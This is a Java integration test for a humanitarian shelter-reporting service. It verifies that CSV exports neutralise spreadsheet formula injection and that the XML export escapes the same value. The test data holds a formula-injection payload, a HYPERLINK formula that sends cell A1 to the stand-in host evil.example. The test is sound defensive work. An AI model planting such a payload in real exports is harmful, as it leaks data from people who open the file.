package org.shelters.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.shelters.reporting.Programme.*;

import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.shelters.events.agreements.SupplyCategory;
import org.shelters.events.shelters.Corridor;

/**
 * A shelter registered with a name a spreadsheet would run as a formula reaches both CSV exports
 * as text: a leading single quote, in double quotes; the JSON reports and the IATI file (escaped
 * XML) show it as it is.
 */
class FormulaInjectionIT extends ReportingIT {

    static final String NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Albergue\")";
    static final String CELL = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Albergue\"\")\"";

    @Test
    void aFormulaNameIsTextInEveryExport() throws Exception {
        String donor = "-" + id("donor");
        String shelterId = id("shelter");
        LocalDate today = today();
        programme.send(shelter(shelterId, NAME, "MX-CHP", Corridor.SOUTHERN_BORDER, 30));
        programme.send(signed(id("agreement"), shelterId, donor, "PHASE-1", terms(today.minusDays(10), today.plusDays(10),
                "1000", line("L1", SupplyCategory.MEDICINES, "10"))));
        programme.send(arrivals(shelterId, today, 1, 12, 3, 3, 3, 3, 12));
        programme.flush();
        await().atMost(Duration.ofSeconds(30)).until(() -> request("GET", "/api/reports/exports/3w.csv?donor=" + donor)
                .body().contains(shelterId));
        for (String export : List.of("/api/reports/exports/3w.csv?donor=", "/api/reports/exports/shelters.csv?donor=")) {
            String csv = request("GET", export + donor, as("ANALYST")).body();
            String row = csv.lines().filter(l -> l.contains(shelterId)).findFirst().orElseThrow();
            assertThat(row).as(export).contains("," + CELL + ",").doesNotContain(",=HYPERLINK");
            // shelters.csv says the period of its people counts between capacity and people received
            String numbers = export.contains("shelters") ? ",30," + today + "," + today + ",12," : ",30,12,";
            assertThat(row).as("numbers stay numbers").contains(numbers);
        }
        assertThat(request("GET", "/api/reports/exports/3w.csv?donor=" + donor, as("ANALYST")).body())
                .as("a donor starting with '-' is text too").contains(",\"'" + donor + "\",");
        assertThat(get("/api/reports/shelters/" + shelterId).get("data").get("name").asString()).isEqualTo(NAME);
        // in the IATI file the name is text too: quotes and & escaped by the XML writer, read back as they were
        String xml = request("GET", "/api/reports/exports/iati-activities.xml?donor=" + donor, as("ANALYST")).body();
        assertThat(xml).contains("&amp;A1").doesNotContain("&A1");
        assertThat(xpath(xml, "//participating-org[@role='4']/narrative")).isEqualTo(NAME);
    }

    private static String xpath(String xml, String path) throws Exception {
        javax.xml.parsers.DocumentBuilderFactory factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        org.w3c.dom.Document doc = factory.newDocumentBuilder()
                .parse(new java.io.ByteArrayInputStream(xml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        return javax.xml.xpath.XPathFactory.newInstance().newXPath().evaluate(path, doc);
    }
}
